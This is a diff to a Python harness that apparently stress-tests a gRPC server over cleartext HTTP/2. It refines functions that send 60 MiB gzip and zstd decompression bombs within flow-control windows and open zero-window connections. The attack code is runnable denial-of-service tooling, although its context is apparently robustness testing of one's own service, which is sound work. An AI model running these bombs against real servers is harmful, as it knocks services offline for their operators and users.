@@ -1,5 +1,5 @@
 """Attacks on the gRPC face (h2c with prior knowledge on the tcp:// port)."""
-import select, socket, struct, time
+import select, socket, struct, time, zlib
 from common import *
 
 MiB = 1 << 20
@@ -11,7 +11,7 @@ class H2Reader:
     def __init__(self, s):
         self.s = s; self.buf = bytearray(); self.conn_win = 65535; self.init_win = 65535
         self.stream_win = {}; self.rst = {}; self.goaway = None; self.data = {}; self.eof = False
-        self.frames = {}
+        self.frames = {}; self.peer_settings = False
 
     def pump(self, timeout=0.0):
         r, _, _ = select.select([self.s], [], [], timeout)
@@ -41,6 +41,7 @@ class H2Reader:
                         delta = v - self.init_win; self.init_win = v
                         for k2 in self.stream_win: self.stream_win[k2] += delta
                 self.s.sendall(h2frame(H2_SETTINGS, 1, 0))
+                self.peer_settings = True
             elif typ == H2_WU:
                 inc = struct.unpack(">I", p)[0] & 0x7FFFFFFF
                 if sid == 0: self.conn_win += inc
@@ -56,6 +57,16 @@ class H2Reader:
 
     def win(self, sid):
         return min(self.conn_win, self.stream_win.setdefault(sid, self.init_win))
+
+def h2_connect_reading(srv, settings=()):
+    """An h2c connection whose H2Reader has seen the server's SETTINGS (its initial window
+    included, which h2_connect would read past), for clients that send within windows."""
+    s = h2_connect(srv.host, srv.port, settings=settings, read_server_settings=False)
+    rd = H2Reader(s)
+    t = time.monotonic()
+    while not rd.peer_settings and not rd.eof and time.monotonic() - t < 5:
+        rd.pump(0.1)
+    return s, rd
 
 def send_data_windowed(s, rd, sid, data, end_stream, deadline):
     """Sends `data` on stream sid in DATA frames of at most 16 KiB (the default
@@ -89,8 +100,7 @@ def attack_grpc_gzip_window0(srv, dur=20):
     than the server's windows, so this client reads the server's frames (for its
     WINDOW_UPDATEs) and sends within them; the answers stay unsendable, as in #1."""
     bomb = pb_gzip_bomb(get_request("big"), 60 * MiB)
-    s = h2_connect(srv.host, srv.port, settings=[(4, 0), (2, 0)])
-    rd = H2Reader(s)
+    s, rd = h2_connect_reading(srv, settings=[(4, 0), (2, 0)])
     t0 = time.monotonic()
     sent = 0
     for i in range(20):
@@ -208,17 +218,22 @@ def attack_grpc_stream_bombs(srv, dur=20, encoding="zstd"):
     61 KB gzip member, sent within the server's windows."""
     mut = pb_bytes(1, put_request("bombkey", "x"))
     bomb = pb_bomb(mut, 60 * MiB) if encoding == "zstd" else pb_gzip_bomb(mut, 60 * MiB)
-    s = h2_connect(srv.host, srv.port)
-    rd = H2Reader(s)
+    if encoding == "zstd":
+        s = h2_connect(srv.host, srv.port)
+        rd = H2Reader(s)
+    else:
+        s, rd = h2_connect_reading(srv)
     t0 = time.monotonic()
     s.sendall(h2frame(H2_HEADERS, 4, 1, grpc_headers(APPLY, extra=[("grpc-encoding", encoding)])))
+    n_sent = 0
     for i in range(20):
         if encoding == "zstd":
             s.sendall(h2frame(H2_DATA, 1 if i == 19 else 0, 1, grpc_msg(bomb, compressed=True)))
         else:
-            send_data_windowed(s, rd, 1, grpc_msg(bomb, compressed=True), i == 19, t0 + dur / 2)
-            if rd.eof or 1 in rd.rst:
+            msg = grpc_msg(bomb, compressed=True)
+            if send_data_windowed(s, rd, 1, msg, i == 19, t0 + dur / 2) < len(msg):
                 break
+        n_sent += 1
     done = None
     while time.monotonic() - t0 < dur:
         rd.pump(0.1)
@@ -230,11 +245,19 @@ def attack_grpc_stream_bombs(srv, dur=20, encoding="zstd"):
     summ = "no DATA (trailers-only: an error status)"
     if len(d) >= 5:
         body = d[5:]
-        puts = body[1] if body[:1] == b"\x08" else None
-        summ = "ApplySummary puts=%s" % puts
+        if d[0] == 1:
+            try:
+                body = zlib.decompress(body, 31)
+            except zlib.error:
+                body = None
+        if body is None:
+            summ = "a compressed (not gzip) ApplySummary of %d B" % (len(d) - 5)
+        else:
+            puts = body[1] if body[:1] == b"\x08" else None
+            summ = "ApplySummary puts=%s" % puts
     s.close()
-    note = "20 x %d B %s (60 MiB each) on one Apply stream; answer after %s: %s; RST=%s frames=%s" % (
-        len(bomb), "bombs" if encoding == "zstd" else "%s bombs" % encoding,
+    note = "%s x %d B %s (60 MiB each) on one Apply stream; answer after %s: %s; RST=%s frames=%s" % (
+        20 if encoding == "zstd" else "%d/20" % n_sent, len(bomb), "bombs" if encoding == "zstd" else "%s bombs" % encoding,
         "%.1f s" % done if done else "-", summ, rd.rst.get(1), rd.frames)
     return {"notes": note, "t0": t0}
 
